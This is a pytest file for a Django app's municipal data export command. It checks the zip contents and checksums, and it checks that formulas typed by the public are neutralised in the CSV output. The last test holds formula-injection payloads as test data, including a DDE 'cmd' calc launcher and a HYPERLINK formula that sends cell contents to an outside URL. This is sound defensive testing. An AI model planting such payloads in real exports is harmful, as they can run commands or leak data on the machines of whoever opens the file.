"""A kommun can leave with everything: promises, follow-up and lägesbild in one zip."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import zipfile

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from medborgarloften.followup.models import Activity
from medborgarloften.places.models import Organisation
from medborgarloften.promises.models import Promise
from medborgarloften.situation.models import Observation
from medborgarloften.situation.services.observations import observation_create


@pytest.mark.django_db
def test_it_exports_one_kommuns_promises_activities_and_observations(tmp_path):
    call_command("demo", stdout=io.StringIO())
    promise = Promise.objects.filter(commitments__isnull=False).first()
    kalmar = promise.kommuner()[0]
    observation_create(
        kommun=kalmar,
        category="klotter",
        observed_at=timezone.now() - dt.timedelta(days=1),
        text="Klotter på skolans gavel",
    )
    other = Organisation.objects.filter(kind=kalmar.kind).exclude(pk=kalmar.pk).first()
    if other is not None:
        observation_create(kommun=other, category="klotter", observed_at=timezone.now())
    target = tmp_path / "kalmar.zip"
    out = io.StringIO()
    call_command("exportkommun", "--kommun", kalmar.name, "-o", str(target), stdout=out)
    assert kalmar.name in out.getvalue()

    with zipfile.ZipFile(target) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        for name, digest in manifest["checksums"].items():
            assert hashlib.sha256(archive.read(name)).hexdigest() == digest
        promises = json.loads(archive.read("promises.json"))
        activities = json.loads(archive.read("activities.json"))
        observations = list(
            csv.DictReader(io.StringIO(archive.read("observations.csv").decode()))
        )
    kalmar_promises = Promise.objects.filter(parties=kalmar)
    assert manifest["counts"]["promises"] == len(promises["promises"])
    assert len(promises["promises"]) == kalmar_promises.count() > 0
    assert len(activities) == (
        Activity.objects.filter(commitment__promise__parties=kalmar).count()
    )
    assert activities and activities[0]["model"] == "followup.activity"
    assert {int(o["pk"]) for o in observations} == set(
        Observation.objects.filter(kommun=kalmar).values_list("pk", flat=True)
    )
    assert "Klotter på skolans gavel" in {o["text"] for o in observations}


@pytest.mark.django_db
def test_it_refuses_an_unknown_kommun(tmp_path):
    with pytest.raises(CommandError, match="okänd kommun"):
        call_command(
            "exportkommun", "--kommun", "Atlantis", "-o", str(tmp_path / "x.zip")
        )


@pytest.mark.django_db
def test_it_keeps_formulas_in_the_csv_files_from_running(tmp_path, kalmar):
    """Issue 13: a spreadsheet opening the export ran text typed by the public (an
    observation, a survey answer) as a formula."""
    hostile = [
        '=HYPERLINK("https://example.org/?"&A1,"Klicka")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ]
    for text in hostile:
        observation_create(
            kommun=kalmar,
            category="klotter",
            observed_at=timezone.now() - dt.timedelta(days=1),
            text=text,
        )
    target = tmp_path / "kalmar.zip"
    call_command(
        "exportkommun", "--kommun", "0880", "-o", str(target), stdout=io.StringIO()
    )
    with zipfile.ZipFile(target) as archive:
        rows = list(
            csv.DictReader(io.StringIO(archive.read("observations.csv").decode()))
        )
        as_json = json.loads(archive.read("observations.json"))
    stored = sorted(Observation.objects.values_list("text", flat=True))
    assert len(stored) == len(hostile)
    texts = sorted(row["text"] for row in rows)
    assert texts == sorted("'" + text for text in stored)
    assert all(not t.startswith(("=", "+", "-", "@", "\t")) for t in texts)
    # The JSON keeps the text exactly as it was stored.
    assert sorted(r["fields"]["text"] for r in as_json) == stored
